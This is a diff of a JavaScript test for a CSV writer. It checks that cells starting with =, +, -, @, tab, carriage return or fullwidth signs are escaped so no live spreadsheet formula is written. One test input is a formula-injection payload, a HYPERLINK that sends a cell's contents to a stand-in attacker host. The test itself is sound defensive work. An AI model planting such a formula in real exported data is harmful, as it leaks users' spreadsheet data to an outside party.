@@ -12,9 +12,23 @@ describe('CSV', () => {
 		).toBe('id,title\r\nx,"김여정, ""no"""\r\ny,"two\nlines"\r\n');
 	});
 
-	it('never writes a live spreadsheet formula', () => {
-		const row = csvTable([['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1', '@SUM(A1)', '\tx']]);
-		for (const field of row.trimEnd().split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
-			expect(field.replace(/^"/, '')).not.toMatch(/^[=+@\t-]/);
+	it('never writes a live spreadsheet formula, fullwidth signs included', () => {
+		const row = csvTable([
+			[
+				'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+				'+1',
+				'-2',
+				'@SUM(A1)',
+				'\tx',
+				'\rx',
+				'＝1',
+				'＋1',
+				'－1',
+				'＠A1',
+			],
+		]);
+		expect(row).toBe(
+			`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",'+1,'-2,'@SUM(A1),'\tx,"'\rx",'＝1,'＋1,'－1,'＠A1\r\n`,
+		);
 	});
 });
